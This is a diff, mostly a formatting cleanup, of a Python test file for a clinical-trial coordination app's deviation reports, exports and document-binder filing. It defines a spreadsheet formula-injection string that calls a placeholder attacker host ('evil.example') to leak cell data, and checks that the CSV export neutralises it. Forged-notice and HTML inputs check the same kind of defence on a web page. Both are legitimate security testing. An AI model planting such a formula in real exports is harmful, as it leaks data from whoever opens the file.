@@ -7,7 +7,7 @@ from __future__ import annotations
 import csv
 import io
 import re
-from datetime import date, datetime, timezone
+from datetime import UTC, date, datetime
 
 import docx
 import openpyxl
@@ -18,8 +18,8 @@ from tests.conftest import PASSWORD, RANDOMIZED, SITE_A, SITE_B, SUBJECT_A, SUBJ
 from trialcoord.adapters.render.documents import render_pdf
 from trialcoord.domain.documents import DocumentKey
 from trialcoord.domain.problems import InvalidInput
-from trialcoord.services import accounts, audit_log, deviation_reports as reports, deviation_review, deviations
-from trialcoord.services import documents, scheduling
+from trialcoord.services import accounts, audit_log, deviation_review, deviations, documents, scheduling
+from trialcoord.services import deviation_reports as reports
 
 pytestmark = pytest.mark.anyio
 TODAY = date(2024, 6, 1)
@@ -27,7 +27,7 @@ INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
 def at(text: str) -> datetime:
-    return datetime.fromisoformat(text).replace(tzinfo=timezone.utc)
+    return datetime.fromisoformat(text).replace(tzinfo=UTC)
 
 
 @pytest.fixture
@@ -49,21 +49,45 @@ async def reported(personas, monkeypatch):
     moment["now"] = at("2024-04-01T12:00:00")
     await deviations.detect(study, TODAY)
     moment["now"] = at("2024-05-20T09:00:00")
-    await deviations.record_manual(study, SITE_A, "other", INJECTION, date(2024, 5, 19), "coord-a",
-                                   subject_id=SUBJECT_A, today=TODAY)
+    await deviations.record_manual(
+        study, SITE_A, "other", INJECTION, date(2024, 5, 19), "coord-a", subject_id=SUBJECT_A, today=TODAY
+    )
     [at_b] = (await deviations.listing(study, sites=[SITE_B]))[0]
     moment["now"] = at("2024-04-11T10:00:00")
     await deviation_review.take_step(study, at_b["id"], "respond", "coord-b", response="Screening was rescheduled")
     await deviation_review.take_step(study, at_b["id"], "acknowledge", "monitor")
-    await deviation_review.take_step(study, at_b["id"], "classify", "monitor", classification="non_important",
-                                     category="visit schedule", subcategory="VISIT MISSED",
-                                     signing=await accounts.signing_by_password("monitor", "review", PASSWORD))
-    await deviation_review.take_step(study, at_b["id"], "close", "monitor",
-                                     signing=await accounts.signing_by_password("monitor", "approval", PASSWORD))
+    await deviation_review.take_step(
+        study,
+        at_b["id"],
+        "classify",
+        "monitor",
+        classification="non_important",
+        category="visit schedule",
+        subcategory="VISIT MISSED",
+        signing=await accounts.signing_by_password("monitor", "review", PASSWORD),
+    )
+    await deviation_review.take_step(
+        study,
+        at_b["id"],
+        "close",
+        "monitor",
+        signing=await accounts.signing_by_password("monitor", "approval", PASSWORD),
+    )
     moment["now"] = None
-    pdf = render_pdf("binder_cover", {"study_code": study, "study_title": "T", "site_code": SITE_A, "site_name": "R",
-                                      "investigator": "I", "sponsor": "S"},
-                     created_at="2024-01-01T00:00:00.000000Z", title="Licence", version_label="1")
+    pdf = render_pdf(
+        "binder_cover",
+        {
+            "study_code": study,
+            "study_title": "T",
+            "site_code": SITE_A,
+            "site_name": "R",
+            "investigator": "I",
+            "sponsor": "S",
+        },
+        created_at="2024-01-01T00:00:00.000000Z",
+        title="Licence",
+        version_label="1",
+    )
     licence = DocumentKey(study, SITE_A, "Licence Ivan")
     await documents.add_version(licence, "090", "2024", pdf, "licence.pdf", expires_on=date(2024, 7, 1))
     await documents.change_status(licence, "2024", "in_review", date(2024, 1, 2))
@@ -105,8 +129,9 @@ async def test_site_summary_figures_on_known_data(reported):
     total = summary["total"]
     assert (total["participants"], total["visits_done"], total["visits_due"]) == (3, 3, 7)
     assert total["on_time_rate"] == round(2 / 3, 4)
-    assert summary["documents"] == [{"site": SITE_A, "document": "Licence Ivan", "version": "2024",
-                                     "state": "expiring", "expires_on": "2024-07-01"}]
+    assert summary["documents"] == [
+        {"site": SITE_A, "document": "Licence Ivan", "version": "2024", "state": "expiring", "expires_on": "2024-07-01"}
+    ]
     assert a["expiring"] == 1 and b["expiring"] == 0 and summary["reconsent"] == []
 
 
@@ -117,19 +142,29 @@ async def test_csv_listing_is_guarded_and_xlsx_reads_back(reported):
     manual = next(r for r in rows if r["RULE"] == "manual")
     assert manual["DVTERM"] == "'" + INJECTION  # inert: a spreadsheet shows it as text
     assert (manual["USUBJID"], manual["DVCAT"], manual["SITEID"], manual["DVSTDTC"]) == (
-        f"TST-1-{SUBJECT_A}", "OTHER", SITE_A, "2024-05-19")
+        f"TST-1-{SUBJECT_A}",
+        "OTHER",
+        SITE_A,
+        "2024-05-19",
+    )
     assert [r["DVSEQ"] for r in rows if r["USUBJID"] == f"TST-1-{SUBJECT_A}"] == ["1", "2", "3", "4"]
     book, _ = await reports.listing_file(reported, [SITE_B], "xlsx", "coord-b")
     sheet = openpyxl.load_workbook(io.BytesIO(book)).active
     values = list(sheet.iter_rows(values_only=True))
     assert values[0] == tuple(reports.LISTING_COLUMNS) and len(values) == 2
     row = dict(zip(values[0], values[1]))
-    assert (row["SITEID"], row["STATE"], row["RULE"], row["DVDECOD"]) == (SITE_B, "closed", "visit_missed",
-                                                                          "VISIT MISSED")
+    assert (row["SITEID"], row["STATE"], row["RULE"], row["DVDECOD"]) == (
+        SITE_B,
+        "closed",
+        "visit_missed",
+        "VISIT MISSED",
+    )
     assert row["CLOSED_UTC"] == datetime(2024, 4, 11, 10, 0)  # a real date-time cell
     exports = await audit_log.browse(audit_log.AuditFilter(record_type="deviation_listing"), None, 5)
-    assert [(e["actor"], e["action"], e["new"]["format"]) for e in exports] == [("coord-b", "export", "xlsx"),
-                                                                               ("sponsor", "export", "csv")]
+    assert [(e["actor"], e["action"], e["new"]["format"]) for e in exports] == [
+        ("coord-b", "export", "xlsx"),
+        ("sponsor", "export", "csv"),
+    ]
 
 
 def drawn_text(data: bytes) -> str:
@@ -149,7 +184,7 @@ def drawn_text(data: bytes) -> str:
                 glyphs = maps.get(str(operands[0]), {})
             elif str(operator) == "TJ":
                 raw = b"".join(bytes(item) for item in operands[0] if isinstance(item, pikepdf.String))
-                chunks.append("".join(glyphs.get(raw[i:i + 2], "") for i in range(0, len(raw), 2)))
+                chunks.append("".join(glyphs.get(raw[i : i + 2], "") for i in range(0, len(raw), 2)))
         for form in (resources.get("/XObject") or {}).values():
             if form.get("/Subtype") == "/Form":
                 walk(form, form.get("/Resources") or resources)
@@ -173,8 +208,9 @@ async def test_the_log_pdf_draws_its_charts_and_the_docx_holds_the_rows(reported
     assert "Deviationsbymonthandcategory" in compact and "Daysfromdetectiontoclosure" in compact
     assert "visit_missed" in compact and "2024-03" in compact  # the bars' labels
     assert INJECTION in compact  # the description as text (wrapped in its narrow column)
-    word = docx.Document(io.BytesIO((await reports.render_report(reported, SITE_A, reports.LOG, "docx", TODAY,
-                                                                 "Cora"))[0]))
+    word = docx.Document(
+        io.BytesIO((await reports.render_report(reported, SITE_A, reports.LOG, "docx", TODAY, "Cora"))[0])
+    )
     counts, table = word.tables[:2]
     assert ["Deviations", "5"] in [[c.text for c in row.cells] for row in counts.rows]
     cells = [[c.text for c in row.cells] for row in table.rows]
@@ -186,8 +222,11 @@ async def test_the_monitoring_visit_report_lists_open_deviations_with_their_age(
     data = await reports.report_data(reported, SITE_A, reports.VISIT_REPORT, TODAY, "Mo (monitor)")
     assert sorted(e["age_days"] for e in data["entries"]) == [12, 61, 61, 61, 61]
     assert {"label": "Visits done / due", "value": "1 / 4"} in data["summary"]
-    word = docx.Document(io.BytesIO((await reports.render_report(reported, SITE_A, reports.VISIT_REPORT, "docx",
-                                                                 TODAY, "Mo (monitor)"))[0]))
+    word = docx.Document(
+        io.BytesIO(
+            (await reports.render_report(reported, SITE_A, reports.VISIT_REPORT, "docx", TODAY, "Mo (monitor)"))[0]
+        )
+    )
     assert "prepared by Mo (monitor)" in "\n".join(p.text for p in word.paragraphs)
     summary, entries, capas = word.tables[:3]
     assert ["Visit completion", "25.0%"] in [[c.text for c in row.cells] for row in summary.rows]
@@ -203,7 +242,11 @@ async def test_filing_adds_a_binder_version_per_day_and_change(reported, monkeyp
     on_the_day(monkeypatch)
     first = await reports.file_report(reported, SITE_A, reports.LOG, "pdf", TODAY, "coord-a", "Cora")
     assert (first["filed"], first["label"], first["artifact"]["unique_id"], first["status"]) == (
-        True, "2024-06-01", "110", "draft")
+        True,
+        "2024-06-01",
+        "110",
+        "draft",
+    )
     again = await reports.file_report(reported, SITE_A, reports.LOG, "pdf", TODAY, "coord-a", "Cora")
     assert (again["filed"], again["label"], again["sha256"]) == (False, "2024-06-01", first["sha256"])
     await deviations.record_manual(reported, SITE_A, "other", "Lab kit expired", TODAY, "coord-a", today=TODAY)
@@ -211,16 +254,23 @@ async def test_filing_adds_a_binder_version_per_day_and_change(reported, monkeyp
     assert (changed["filed"], changed["label"]) == (True, "2024-06-01.2")
     report = await reports.file_report(reported, SITE_A, reports.VISIT_REPORT, "pdf", TODAY, "coord-a", "Cora")
     assert (report["label"], report["artifact"]["unique_id"], report["file_name"]) == (
-        "2024-06-01", "107", f"monitoring_visit_report-TST-1-{SITE_A}-2024-06-01.pdf")
+        "2024-06-01",
+        "107",
+        f"monitoring_visit_report-TST-1-{SITE_A}-2024-06-01.pdf",
+    )
     filed = {(r["name"], r["label"]) for r in await documents.list_documents(reported, SITE_A)}
-    assert {("Protocol deviation log", "2024-06-01"), ("Protocol deviation log", "2024-06-01.2"),
-            ("Monitoring visit report", "2024-06-01")} <= filed
+    assert {
+        ("Protocol deviation log", "2024-06-01"),
+        ("Protocol deviation log", "2024-06-01.2"),
+        ("Monitoring visit report", "2024-06-01"),
+    } <= filed
     stored = await documents.version_bytes(DocumentKey(reported, SITE_A, "Protocol deviation log"), "2024-06-01")
     assert stored.startswith(b"%PDF-")
     created = await audit_log.browse(audit_log.AuditFilter(record_type="document_version", action="create"), None, 9)
     assert sorted(e["record_id"] for e in created if "deviation log" in e["record_id"]) == [
         "TST-1/101/documents/Protocol deviation log/2024-06-01",
-        "TST-1/101/documents/Protocol deviation log/2024-06-01.2"]
+        "TST-1/101/documents/Protocol deviation log/2024-06-01.2",
+    ]
 
 
 async def test_api_reports_by_role(reported, anonymous):
@@ -242,21 +292,24 @@ async def test_api_reports_by_role(reported, anonymous):
     assert log.status_code == 200 and log.headers["content-type"].startswith("application/vnd.openxmlformats")
     assert (await coord_b.get(f"/api/studies/TST-1/deviations/log?site={SITE_B}&format=odt")).status_code == 400
     monitor = await signed_in(anonymous, "monitor")
-    assert (await monitor.post("/api/studies/TST-1/deviations/monitoring-report/file",
-                               json={"site": SITE_B})).status_code == 403  # monitors do not manage documents
+    assert (
+        await monitor.post("/api/studies/TST-1/deviations/monitoring-report/file", json={"site": SITE_B})
+    ).status_code == 403  # monitors do not manage documents
     pdf = await monitor.get(f"/api/studies/TST-1/site-summary.pdf?site={SITE_B}")
     assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF-")
     coord_a = await signed_in(anonymous, "coord-a")
     filed = await coord_a.post("/api/studies/TST-1/deviations/monitoring-report/file", json={"site": SITE_A})
     assert filed.status_code == 201 and filed.json()["name"] == "Monitoring visit report"
-    assert (await coord_a.post("/api/studies/TST-1/deviations/log/file",
-                               json={"site": SITE_B})).status_code == 403
+    assert (await coord_a.post("/api/studies/TST-1/deviations/log/file", json={"site": SITE_B})).status_code == 403
     admin = await signed_in(anonymous, "admin")
     missing = await admin.get("/api/studies/TST-1/deviations/log?site=999")
     assert missing.status_code == 404 and "999" in missing.json()["detail"]
     exports = await audit_log.browse(audit_log.AuditFilter(action="export"), None, 20)
     assert {(e["actor"], e["record_type"]) for e in exports} >= {
-        ("coord-b", "deviation_listing"), ("coord-b", "deviation_log"), ("monitor", "site_summary")}
+        ("coord-b", "deviation_listing"),
+        ("coord-b", "deviation_log"),
+        ("monitor", "site_summary"),
+    }
 
 
 async def test_pages_show_charts_repeats_and_file_into_the_binder(reported, anonymous):
@@ -267,16 +320,20 @@ async def test_pages_show_charts_repeats_and_file_into_the_binder(reported, anon
     page = await coord_a.get("/studies/TST-1/reports")
     assert page.status_code == 200 and 'id="file-form"' in page.text and 'id="site-summary"' in page.text
     assert f"deviations/log?site={SITE_A}&amp;format=pdf" in page.text and f"log?site={SITE_B}" not in page.text
-    sent = await coord_a.post("/studies/TST-1/reports/file", data={"site": SITE_A, "report": "deviation_log",
-                                                                   "format": "pdf"})
+    sent = await coord_a.post(
+        "/studies/TST-1/reports/file", data={"site": SITE_A, "report": "deviation_log", "format": "pdf"}
+    )
     assert sent.status_code == 303
     shown = await coord_a.get(sent.headers["location"])
     notice = re.search(r'<p class="notice" role="status" id="filed">(.*?)</p>', shown.text).group(1)
     day = date.today().isoformat()  # the app's today: the report is dated the day it is filed
-    assert notice == ('Filed into the binder: <a href="/studies/TST-1/documents/version?name=Protocol%20deviation'
-                      f'%20log&amp;label={day}&amp;site={SITE_A}">Protocol deviation log version {day}</a>.')
-    again = await coord_a.post("/studies/TST-1/reports/file", data={"site": SITE_A, "report": "deviation_log",
-                                                                    "format": "pdf"})
+    assert notice == (
+        'Filed into the binder: <a href="/studies/TST-1/documents/version?name=Protocol%20deviation'
+        f'%20log&amp;label={day}&amp;site={SITE_A}">Protocol deviation log version {day}</a>.'
+    )
+    again = await coord_a.post(
+        "/studies/TST-1/reports/file", data={"site": SITE_A, "report": "deviation_log", "format": "pdf"}
+    )
     assert "Already in the binder, unchanged: " in (await coord_a.get(again.headers["location"])).text
     bad = await coord_a.post("/studies/TST-1/reports/file", data={"site": SITE_A, "report": "minutes"})
     assert bad.status_code == 422 and "Choose the deviation log" in bad.text
@@ -288,17 +345,21 @@ async def test_pages_show_charts_repeats_and_file_into_the_binder(reported, anon
 async def test_the_filed_notice_prints_nothing_from_the_address_but_a_real_version(reported, anonymous):
     await reports.file_report(reported, SITE_A, reports.LOG, "pdf", TODAY, "coord-a", "Cora")
     monitor = await signed_in(anonymous, "monitor")
-    forged = [{"site": SITE_A, "filed": "Your account is locked: call +1 555 0100"},
-              {"site": SITE_A, "name": "Call +1 555 0100", "label": str(TODAY), "filed": "new"},
-              {"site": SITE_A, "name": "Protocol deviation log", "label": "1999-01-01", "filed": "new"},
-              {"site": SITE_A, "name": "Protocol deviation log", "label": str(TODAY), "filed": "<b>x</b>"},
-              {"site": SITE_B, "name": "Protocol deviation log", "label": str(TODAY), "filed": "new"}]  # A's
+    forged = [
+        {"site": SITE_A, "filed": "Your account is locked: call +1 555 0100"},
+        {"site": SITE_A, "name": "Call +1 555 0100", "label": str(TODAY), "filed": "new"},
+        {"site": SITE_A, "name": "Protocol deviation log", "label": "1999-01-01", "filed": "new"},
+        {"site": SITE_A, "name": "Protocol deviation log", "label": str(TODAY), "filed": "<b>x</b>"},
+        {"site": SITE_B, "name": "Protocol deviation log", "label": str(TODAY), "filed": "new"},
+    ]  # A's
     for params in forged:
         page = await monitor.get("/studies/TST-1/reports", params=params)
         assert page.status_code == 200 and 'id="filed"' not in page.text, params
         assert "555 0100" not in page.text and "<b>x</b>" not in page.text
-    real = await monitor.get("/studies/TST-1/reports", params={"site": SITE_A, "name": "Protocol deviation log",
-                                                                "label": str(TODAY), "filed": "new"})
+    real = await monitor.get(
+        "/studies/TST-1/reports",
+        params={"site": SITE_A, "name": "Protocol deviation log", "label": str(TODAY), "filed": "new"},
+    )
     assert f"Protocol deviation log version {TODAY}</a>" in real.text
 
 
@@ -311,6 +372,7 @@ async def test_the_study_page_and_the_queue_link_to_the_reports(reported, anonym
 
 
 # Regressions of the review ------------------------------------------------------------------------------
+
 
 async def test_filing_compares_the_data_with_every_version_of_the_day_and_files_pdf_only(reported, monkeypatch):
     on_the_day(monkeypatch)
@@ -343,8 +405,9 @@ def test_day_labels_are_ascii_digits_only():
 async def test_a_superscript_label_is_no_500(reported, anonymous, app):
     today = app.state.settings.today()
     pdf, _ = await reports.render_report(reported, SITE_A, reports.LOG, "pdf", today, "x")
-    await documents.add_version(DocumentKey(reported, SITE_A, "Protocol deviation log"), "110", f"{today}.\u00b2",
-                                pdf, "x.pdf")
+    await documents.add_version(
+        DocumentKey(reported, SITE_A, "Protocol deviation log"), "110", f"{today}.\u00b2", pdf, "x.pdf"
+    )
     coord_a = await signed_in(anonymous, "coord-a")
     filed = await coord_a.post("/api/studies/TST-1/deviations/log/file", json={"site": SITE_A})
     assert filed.status_code == 201 and filed.json()["label"] == str(today)  # "today.²" is no version of the day
@@ -353,8 +416,9 @@ async def test_a_superscript_label_is_no_500(reported, anonymous, app):
 async def test_concurrent_filings_of_the_same_report_file_it_once(reported):
     import asyncio
 
-    results = await asyncio.gather(*[reports.file_report(reported, SITE_A, reports.LOG, "pdf", TODAY, "coord-a",
-                                                         "Cora") for _ in range(2)])
+    results = await asyncio.gather(
+        *[reports.file_report(reported, SITE_A, reports.LOG, "pdf", TODAY, "coord-a", "Cora") for _ in range(2)]
+    )
     assert sorted(r["filed"] for r in results) == [False, True] and {r["label"] for r in results} == {"2024-06-01"}
 
 
@@ -368,8 +432,9 @@ class FakeJobs:
         from trialcoord.adapters.render import documents as rendering
 
         self.submitted.append((kind, template, version_label, owner))
-        self.result_bytes = rendering.render_pdf(template, data, created_at=created_at, title=title,
-                                                 version_label=version_label)
+        self.result_bytes = rendering.render_pdf(
+            template, data, created_at=created_at, title=title, version_label=version_label
+        )
         return f"job-{len(self.submitted)}"
 
     def result(self, job_id, *, owner):
@@ -386,8 +451,9 @@ async def test_long_reports_go_to_a_render_job_and_are_filed_once_it_is_done(rep
     short, _ = await reports.download_report(reported, SITE_A, reports.LOG, "pdf", TODAY, "coord-a", "Cora", jobs=jobs)
     assert short.startswith(b"%PDF-") and not jobs.submitted  # a short one stays in the request
     monkeypatch.setattr(render_jobs, "LONG_DOCUMENT_PAGES", 1)
-    queued, name = await reports.download_report(reported, SITE_A, reports.LOG, "pdf", TODAY, "coord-a", "Cora",
-                                                 jobs=jobs)
+    queued, name = await reports.download_report(
+        reported, SITE_A, reports.LOG, "pdf", TODAY, "coord-a", "Cora", jobs=jobs
+    )
     assert isinstance(queued, reports.Queued) and queued.url == "/api/studies/TST-1/render-jobs/job-1"
     renders.clear()
     filing = await reports.file_report(reported, SITE_A, reports.LOG, "pdf", TODAY, "coord-a", "Cora", jobs=jobs)
@@ -419,20 +485,36 @@ async def test_the_summary_applies_as_of_to_deviations_visits_and_participants(r
 async def test_the_summary_counts_study_level_documents_and_hides_subject_logs(reported, anonymous):
     from tests.conftest import add_user, sign_version
 
-    pdf = render_pdf("binder_cover", {"study_code": "TST-1", "study_title": "T", "site_code": "x", "site_name": "R",
-                                      "investigator": "I", "sponsor": "S"},
-                     created_at="2024-01-02T00:00:00.000000Z", title="Doc", version_label="1")
+    pdf = render_pdf(
+        "binder_cover",
+        {
+            "study_code": "TST-1",
+            "study_title": "T",
+            "site_code": "x",
+            "site_name": "R",
+            "investigator": "I",
+            "sponsor": "S",
+        },
+        created_at="2024-01-02T00:00:00.000000Z",
+        title="Doc",
+        version_label="1",
+    )
     await add_user("ada-adm", ("administrator", None, None))
-    for key, artifact, signer in ((DocumentKey("TST-1", None, "Central lab certification"), "160", "ada-adm"),
-                                  (DocumentKey("TST-1", SITE_A, "Subject identification log"), "234", "ivan")):
+    for key, artifact, signer in (
+        (DocumentKey("TST-1", None, "Central lab certification"), "160", "ada-adm"),
+        (DocumentKey("TST-1", SITE_A, "Subject identification log"), "234", "ivan"),
+    ):
         await documents.add_version(key, artifact, "1", pdf, "d.pdf", expires_on=date(2024, 6, 20))
         await documents.change_status(key, "1", "in_review", date(2024, 1, 2))
         await sign_version(key, "1", signer)
         await documents.change_status(key, "1", "approved", date(2024, 1, 2))
         await documents.change_status(key, "1", "effective", date(2024, 1, 2))
     summary = await reports.site_summary(reported, [SITE_A, SITE_B], TODAY)
-    assert {d["document"] for d in summary["documents"]} == {"Licence Ivan", "Central lab certification",
-                                                            "Subject identification log"}
+    assert {d["document"] for d in summary["documents"]} == {
+        "Licence Ivan",
+        "Central lab certification",
+        "Subject identification log",
+    }
     assert summary["total"]["expiring"] == 3 and summary["sites"][0]["expiring"] == 2
     hidden = await reports.site_summary(reported, [SITE_A, SITE_B], TODAY, personal=False)
     assert "Subject identification log" not in {d["document"] for d in hidden["documents"]}
@@ -454,8 +536,9 @@ async def test_the_listing_has_sdtm_columns_and_standing_records_only(reported):
     assert {r["DOMAIN"] for r in rows} == {"DV"} and {r["EPOCH"] for r in rows} == {""}
     manual = next(r for r in rows if r["RULE"] == "manual")
     assert manual["DVSTDY"] == str((date(2024, 5, 19) - RANDOMIZED).days + 1)  # day one is day 1
-    site_level = await deviations.record_manual(reported, SITE_B, "other", "Freezer log gap", TODAY, "coord-b",
-                                                today=TODAY)
+    site_level = await deviations.record_manual(
+        reported, SITE_B, "other", "Freezer log gap", TODAY, "coord-b", today=TODAY
+    )
     rows, _ = await deviations.listing(reported)
     table = reports.listing_rows(reported, [*rows, {**rows[0], "id": 999, "state": "resolved_by_data_correction"}])
     assert 999 not in {r["DVSPID"] for r in table}
